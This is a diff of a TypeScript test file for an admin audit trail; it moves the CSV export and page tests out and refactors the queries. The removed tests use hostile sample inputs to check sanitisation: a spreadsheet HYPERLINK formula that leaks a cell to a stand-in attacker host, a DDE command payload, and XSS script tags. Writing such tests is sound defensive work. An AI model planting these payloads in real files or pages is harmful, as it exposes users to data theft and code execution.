@@ -1,90 +1,14 @@
 /**
- * The audit trail (SPEC §4 GET /api/admin/audit, page /admin/audit, §5 Audit and
- * Retention): filtered, newest first, paginated by the one helper; CSV export
- * with a row cap and CSV-injection protection; reading and exporting are
- * audited themselves; the trail is append-only; audit purge and
- * AUDIT_RETENTION_DAYS. Run on libsql and on PostgreSQL (never skipped).
+ * The audit trail (SPEC §4 GET /api/admin/audit, §5 Audit and Retention):
+ * filtered, newest first, paginated by the one helper; reading is audited
+ * itself; the trail is append-only; batched writes; audit purge and
+ * AUDIT_RETENTION_DAYS. The CSV export and the page are in audit-export.test.ts.
+ * Runs on the run's dialect (libsql, then PostgreSQL; never skipped).
  */
 import { describe, expect, test } from 'bun:test'
-import { and, eq, isNull, like } from 'drizzle-orm'
 import { ConfigError, loadConfig } from '../../src/config'
-import type { TestApp } from '../helpers/app'
-import { expectErrorShape, freshUser, useApp, UUID, DIALECT } from './support'
-
-const ADMIN = 'audit-boss@example.com'
-const EVENT_KEYS = ['action', 'actor', 'actor_id', 'at', 'id', 'ip', 'job_id', 'metadata', 'request_id', 'role', 'session_id', 'target'].sort()
-const CSV_HEADER = 'id,at,actor,actor_id,role,action,target,session_id,job_id,request_id,ip,metadata'
-const MINUTE = 60_000
-const DAY = 86_400_000
-
-type SeedRow = {
-  action: string
-  at: Date
-  actor?: string | null
-  actorId?: string | null
-  role?: string | null
-  target?: string | null
-  sessionId?: string | null
-  jobId?: string | null
-  requestId?: string | null
-  ip?: string | null
-  metadata?: Record<string, unknown> | null
-}
-
-let tagCounter = 0
-/** A unique action family per test, so tests sharing an app never see each other's events. */
-const uniqueTag = (label: string) => `test.${label}${Date.now().toString(36)}${++tagCounter}`
-
-/** Writes events straight into the table, with ids time-ordered like the app's own (UUIDv7 of `at`). */
-async function seed(t: TestApp, rows: SeedRow[]): Promise<string[]> {
-  const { auditEvents } = t.deps.db.t
-  const values = rows.map((row) => ({
-    id: Bun.randomUUIDv7('hex', row.at),
-    actorId: null,
-    actor: null,
-    role: null,
-    target: null,
-    sessionId: null,
-    jobId: null,
-    requestId: null,
-    ip: null,
-    metadata: null,
-    ...row,
-  }))
-  for (let i = 0; i < values.length; i += 500) await t.deps.db.orm.insert(auditEvents).values(values.slice(i, i + 500))
-  return values.map((value) => value.id)
-}
-
-const eventsOf = async (t: TestApp, action: string, requestId: string) => {
-  await t.deps.audit.flush()
-  const { auditEvents } = t.deps.db.t
-  return t.deps.db.orm
-    .select()
-    .from(auditEvents)
-    .where(and(eq(auditEvents.action, action), eq(auditEvents.requestId, requestId)))
-}
-
-/** RFC 4180 parser (quoted fields, doubled quotes, CRLF), enough to read the export back. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = []
-  let row: string[] = []
-  let cell = ''
-  let quoted = false
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++
-      else if (c === '"') quoted = false
-      else cell += c
-    } else if (c === '"') quoted = true
-    else if (c === ',') row.push(cell), (cell = '')
-    else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(cell), rows.push(row), (row = []), (cell = ''), i++
-    } else cell += c
-  }
-  if (cell || row.length) row.push(cell), rows.push(row)
-  return rows
-}
+import { ADMIN, DAY, EVENT_KEYS, eventsOf, MINUTE, seed, sqlNullMetadata, uniqueTag } from './audit-support'
+import { DIALECT, expectErrorShape, freshUser, useApp, UUID } from './support'
 
 describe(`audit trail on ${DIALECT}`, () => {
   const app = useApp({ ADMIN_EMAILS: ADMIN })
@@ -255,169 +179,6 @@ describe(`audit trail on ${DIALECT}`, () => {
     })
   })
 
-  describe('CSV export', () => {
-    test('text/csv with a header row, the same filters and order as the JSON list, as an attachment', async () => {
-      const t = app()
-      const action = uniqueTag('csv')
-      const now = Date.now()
-      await seed(t, [
-        { action, at: new Date(now - 3 * MINUTE), actor: 'plain@example.com', target: 'user:1', requestId: 'req-csv-1', metadata: { email: 'x@example.com', role: 'auditor' } },
-        { action, at: new Date(now - 2 * MINUTE), actor: 'comma, "quoted"\nnewline@example.com', target: 'user:2' },
-        { action, at: new Date(now - 1 * MINUTE), actor: 'other@example.com', target: 'session:3' },
-      ])
-      const res = await t.call('GET', `/api/admin/audit?format=csv&action=${action}&target=user:*`, { user: ADMIN })
-      expect(res.status).toBe(200)
-      expect(res.headers.get('content-type')).toStartWith('text/csv')
-      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-[0-9T-]+\.csv"$/)
-      expect(res.headers.get('x-export-truncated')).toBeNull()
-      expect(res.headers.get('x-request-id')).toBeTruthy()
-      const text = await res.text()
-      expect(text.split('\r\n')[0]).toBe(CSV_HEADER)
-      const rows = parseCsv(text)
-      expect(rows[0]!.join(',')).toBe(CSV_HEADER)
-      const json = (await get(`/api/admin/audit?action=${action}&target=user:*`)).body.items
-      expect(rows.slice(1).map((row) => row[0])).toEqual(json.map((item: any) => item.id))
-      expect(rows).toHaveLength(3)
-      const [quoted, plain] = rows.slice(1)
-      expect(quoted![2]).toBe('comma, "quoted"\nnewline@example.com')
-      expect(plain!.slice(0, 11)).toEqual([json[1].id, json[1].at, 'plain@example.com', '', '', action, 'user:1', '', '', 'req-csv-1', ''])
-      expect(JSON.parse(plain![11]!)).toEqual({ email: 'x@example.com', role: 'auditor' })
-    })
-
-    test('cells a spreadsheet would run as formulas are prefixed with a quote', async () => {
-      const t = app()
-      const action = uniqueTag('inject')
-      await seed(t, [
-        {
-          action,
-          at: new Date(),
-          actor: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-          role: '+cmd|/C calc!A0',
-          target: '@SUM(1+1)',
-          requestId: '-2+3',
-          ip: '\t=1',
-          sessionId: 'safe-value',
-          metadata: { note: '=1+1' },
-        },
-      ])
-      const res = await t.call('GET', `/api/admin/audit?format=csv&action=${action}`, { user: ADMIN })
-      const [, row] = parseCsv(await res.text())
-      const cell = (name: string) => row![CSV_HEADER.split(',').indexOf(name)]
-      expect(cell('actor')).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`)
-      expect(cell('role')).toBe(`'+cmd|/C calc!A0`)
-      expect(cell('target')).toBe(`'@SUM(1+1)`)
-      expect(cell('request_id')).toBe(`'-2+3`)
-      expect(cell('ip')).toBe(`'\t=1`)
-      expect(cell('session_id')).toBe('safe-value')
-      expect(cell('metadata')).toBe('{"note":"=1+1"}')
-      for (const value of row!) expect(value).not.toMatch(/^[=+\-@\t\r]/)
-    })
-
-    test('exporting is audited (audit.export, with the row count) and needs audit:export', async () => {
-      const t = app()
-      const action = uniqueTag('exported')
-      await seed(t, [{ action, at: new Date() }, { action, at: new Date() }])
-      const auditor = freshUser('exporter')
-      const res = await t.call('GET', `/api/admin/audit?format=csv&action=${action}`, { user: auditor, role: 'auditor' })
-      expect(res.status).toBe(200)
-      const events = await eventsOf(t, 'audit.export', res.headers.get('x-request-id')!)
-      expect(events).toHaveLength(1)
-      expect(events[0]!).toMatchObject({ actor: auditor, role: 'auditor' })
-      expect(events[0]!.metadata).toEqual({ filters: { action }, rows: 2, truncated: false })
-      expect(await eventsOf(t, 'audit.view', res.headers.get('x-request-id')!)).toHaveLength(0)
-      expectErrorShape(expect, await t.json('GET', `/api/admin/audit?format=csv`, { user: freshUser('member') }), 403)
-    })
-
-    test(
-      'at most 10,000 rows; X-Export-Truncated: true when more matched',
-      async () => {
-        const t = app()
-        const action = uniqueTag('bulk')
-        const start = Date.now() - 2 * DAY
-        await seed(t, Array.from({ length: 10_001 }, (_, i) => ({ action, at: new Date(start + i * 1000), actor: `bulk-${i}@example.com` })))
-        const full = await t.call('GET', `/api/admin/audit?format=csv&action=${action}`, { user: ADMIN })
-        expect(full.headers.get('x-export-truncated')).toBe('true')
-        const rows = (await full.text()).trimEnd().split('\r\n')
-        expect(rows).toHaveLength(10_001) // header + 10,000
-        expect(rows[1]).toContain('bulk-10000@example.com') // newest first: the oldest is the one left out
-        expect(rows.some((row) => row.includes('bulk-0@'))).toBe(false)
-        // Exactly 10,000 matching rows is a complete export.
-        const since = new Date(start + 1000).toISOString()
-        const exact = await t.call('GET', `/api/admin/audit?format=csv&action=${action}&since=${since}`, { user: ADMIN })
-        expect(exact.headers.get('x-export-truncated')).toBeNull()
-        expect((await exact.text()).trimEnd().split('\r\n')).toHaveLength(10_001)
-      },
-      { timeout: 60_000 },
-    )
-  })
-
-  describe('page /admin/audit', () => {
-    test('shows events with their request ids, filter form and export link; viewing is audited', async () => {
-      const t = app()
-      const action = uniqueTag('page')
-      await seed(t, [{ action, at: new Date(), actor: 'shown@example.com', requestId: 'req-page-0001', target: 'user:1' }])
-      const auditor = freshUser('page-auditor')
-      const res = await t.call('GET', `/admin/audit?action=${action}`, { user: auditor, role: 'auditor', headers: { 'x-request-id': `audit-page-${Date.now()}` } })
-      expect(res.status).toBe(200)
-      expect(res.headers.get('content-type')).toContain('text/html')
-      const html = await res.text()
-      expect(html).toContain('<form id="audit-filter"')
-      expect(html).toContain('href="/admin/audit?request_id=req-page-0001"')
-      expect(html).toContain('<code>req-page-0001</code>')
-      expect(html).toContain(`href="/api/admin/audit?action=${action}&format=csv"`)
-      expect(html).toContain(`value="${action}"`)
-      const viewed = await eventsOf(t, 'admin.view', res.headers.get('x-request-id')!)
-      expect(viewed).toHaveLength(1)
-      expect(viewed[0]!).toMatchObject({ actor: auditor, target: 'page:/admin/audit' })
-    })
-
-    test('htmx: the filter answers the results section, "load more" the next rows; a bad date answers in place', async () => {
-      const t = app()
-      const action = uniqueTag('frag')
-      const now = Date.now()
-      await seed(t, Array.from({ length: 3 }, (_, i) => ({ action, at: new Date(now - (5 - i) * MINUTE), requestId: `req-frag-${i}` })))
-      const section = await t.call('GET', `/admin/audit?action=${action}&limit=2`, { user: ADMIN, headers: { 'hx-request': 'true' } })
-      expect(section.status).toBe(200)
-      const html = await section.text()
-      expect(html).toStartWith('<section id="audit-results">')
-      expect(html).toContain('req-frag-2')
-      expect(html).toContain('req-frag-1')
-      expect(html).not.toContain('req-frag-0')
-      const more = /hx-get="([^"]+cursor=[^"]+)"/.exec(html)?.[1]?.replaceAll('&amp;', '&')
-      expect(more).toBeTruthy()
-      const rows = await t.call('GET', more!, { user: ADMIN, headers: { 'hx-request': 'true' } })
-      const rowsHtml = await rows.text()
-      expect(rowsHtml).toStartWith('<tr')
-      expect(rowsHtml).toContain('req-frag-0')
-      expect(rowsHtml).not.toContain('req-frag-1')
-      expect(rowsHtml).not.toContain('audit-more')
-
-      const bad = await t.call('GET', '/admin/audit?since=soon', { user: ADMIN, headers: { 'hx-request': 'true' } })
-      expect(bad.status).toBe(422)
-      const badHtml = await bad.text()
-      expect(badHtml).toStartWith('<section id="audit-results">')
-      expect(badHtml).toContain('Invalid query field &quot;since&quot;')
-      const badPage = await t.call('GET', '/admin/audit?until=never', { user: ADMIN })
-      expect(badPage.status).toBe(422)
-      expect(await badPage.text()).toContain('value="never"')
-    })
-
-    test('values from the trail are escaped', async () => {
-      const t = app()
-      const action = uniqueTag('xss')
-      await seed(t, [{ action, at: new Date(), actor: '<img src=x onerror=alert(1)>', target: '<script>alert(2)</script>', metadata: { x: '</code><b>bold</b>' } }])
-      const html = await (await t.call('GET', `/admin/audit?action=${action}`, { user: ADMIN })).text()
-      expect(html).not.toContain('<img src=x')
-      expect(html).not.toContain('<script>alert(2)')
-      expect(html).not.toContain('<b>bold</b>')
-      expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;')
-    })
-
-    test('members get 403', async () => {
-      expectErrorShape(expect, await app().json('GET', '/admin/audit', { user: freshUser('member') }), 403)
-    })
-  })
-
   test('batched events (recordLater) are stored exactly: quotes, unicode, nested metadata, nulls, redacted keys', async () => {
     const t = app()
     const action = uniqueTag('batched')
@@ -426,8 +187,7 @@ describe(`audit trail on ${DIALECT}`, () => {
     t.deps.audit.recordLater({ action, actor: "o'brien@example.com", target: 'session:x', requestId: 'req-batched-1', metadata })
     t.deps.audit.recordLater({ action, actor: null, role: null, target: null, metadata: undefined })
     await t.deps.audit.flush()
-    const { auditEvents } = t.deps.db.t
-    const rows = await t.deps.db.orm.select().from(auditEvents).where(eq(auditEvents.action, action)).orderBy(auditEvents.id)
+    const rows = (await t.deps.stores.audit.list({ action: { equals: action }, limit: 100 })).reverse()
     expect(rows).toHaveLength(2)
     expect(rows[0]!.actor).toBe("o'brien@example.com")
     expect(rows[0]!.requestId).toBe('req-batched-1')
@@ -436,8 +196,7 @@ describe(`audit trail on ${DIALECT}`, () => {
     expect(Math.abs(rows[0]!.at.getTime() - at)).toBeLessThan(5000)
     expect(rows[1]).toMatchObject({ actor: null, role: null, target: null, sessionId: null, jobId: null, metadata: null })
     // SQL NULL, not the JSON value null (the driver reads both as null).
-    const sqlNull = await t.deps.db.orm.select({ id: auditEvents.id }).from(auditEvents).where(and(eq(auditEvents.action, action), isNull(auditEvents.metadata)))
-    expect(sqlNull.map((row) => row.id)).toEqual([rows[1]!.id])
+    expect(await sqlNullMetadata(t, action)).toEqual([rows[1]!.id])
   })
 
   describe('retention: audit purge', () => {
@@ -453,17 +212,17 @@ describe(`audit trail on ${DIALECT}`, () => {
       const recent = await seed(t, [{ action, at: new Date(now - MINUTE) }])
       const cutoff = new Date(now - 365 * DAY)
       expect(await t.deps.audit.purge(cutoff, { batchSize: 2 })).toBe(5)
-      const { auditEvents } = t.deps.db.t
-      const left = await t.deps.db.orm.select({ id: auditEvents.id }).from(auditEvents).where(like(auditEvents.action, `${action}%`))
+      const left = await t.deps.stores.audit.list({ action: { prefix: action }, limit: 1000 })
       expect(left.map((row) => row.id).sort()).toEqual([...edge, ...recent].sort())
       for (const id of old) expect(left.map((row) => row.id)).not.toContain(id)
-      const purges = await t.deps.db.orm.select().from(auditEvents).where(eq(auditEvents.action, 'audit.purge'))
+      const purgeEvents = () => t.deps.stores.audit.list({ action: { equals: 'audit.purge' }, limit: 100 })
+      const purges = await purgeEvents()
       expect(purges).toHaveLength(1)
       expect(purges[0]!.id).toMatch(UUID)
       expect(purges[0]!.metadata).toEqual({ older_than: cutoff.toISOString(), deleted: 5 })
       // Nothing left to purge: no deletion, no event.
       expect(await t.deps.audit.purge(cutoff)).toBe(0)
-      expect(await t.deps.db.orm.select().from(auditEvents).where(eq(auditEvents.action, 'audit.purge'))).toHaveLength(1)
+      expect(await purgeEvents()).toHaveLength(1)
     })
 
     test('refuses an invalid date', async () => {
